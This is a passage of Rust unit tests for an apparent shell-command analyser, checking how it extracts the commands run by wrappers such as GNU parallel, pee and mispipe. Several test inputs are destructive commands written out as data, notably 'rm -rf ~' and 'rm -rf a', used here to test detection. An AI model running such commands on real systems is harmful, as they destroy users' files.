            [command(&["cat", "d/**"], Origin::FindExec)]
        );
        assert!(run(&["fd", "-e", "rs", "src"]).is_empty());
    }

    #[test]
    fn parallel_command() {
        assert_eq!(
            nested(
                &fields(&["parallel", "-j", "4", "rm", "-rf", ":::", "a", "b"]),
                None
            ),
            [
                script("rm -rf a", Origin::Wrapper),
                script("rm -rf b", Origin::Wrapper)
            ]
        );
        assert_eq!(
            nested(&fields(&["parallel", "rm -rf {}/x", ":::", "a"]), None),
            [script("rm -rf a/x", Origin::Wrapper)]
        );
        // Argument files and other replacement strings: the command as written.
        for (words, text) in [
            (&["parallel", "rm", "-rf", "::::", "list"][..], "rm -rf"),
            (&["parallel", "rm", "-rf", "{.}", ":::", "a"], "rm -rf {.}"),
            (&["parallel", "rm", "-rf"], "rm -rf"),
        ] {
            let found = nested(&fields(words), None);
            assert_eq!(found, [script(text, Origin::Wrapper)], "{words:?}");
        }
    }

    #[test]
    fn parallel_without_a_command_runs_its_inputs() {
        let w = Origin::Wrapper;
        assert_eq!(
            nested(&fields(&["parallel", "-j2", ":::", "ls", "rm -rf ~"]), None),
            [script("ls", w), script("rm -rf ~", w)]
        );
        assert_eq!(
            nested(&fields(&["parallel"]), Some("rm -rf ~\n\nls\n")),
            [script("rm -rf ~", w), script("ls", w)]
        );
        assert_eq!(
            nested(
                &fields(&["parallel", ":::", "rm", ":::", "-rf ~", "x"]),
                None
            ),
            [script("rm -rf ~", w), script("rm x", w)]
        );
        assert_eq!(
            nested(&fields(&["parallel", "gzip"]), Some("a.log\n")),
            [script("gzip a.log", w)]
        );
        assert!(nested(&fields(&["parallel", "::::", "cmds.txt"]), None).is_empty());
        assert_eq!(
            nested(&fields(&["parallel", "--pipe", "wc"]), Some("rm -rf ~\n")),
            [script("wc", w)]
        );
        assert!(nested(&fields(&["parallel", "-a", "list"]), Some("rm -rf ~\n")).is_empty());
    }

    #[test]
    fn moreutils_shell_texts() {
        let w = Origin::Wrapper;
        assert_eq!(
            nested(
                &fields(&["pee", "--ignore-sigpipe", "cat", "rm -rf ~"]),
                None
            ),
            [script("cat", w), script("rm -rf ~", w)]
        );
        assert_eq!(
            nested(&fields(&["mispipe", "make", "rm -rf ~"]), None),
            [script("make", w), script("rm -rf ~", w)]
        );
    }
}
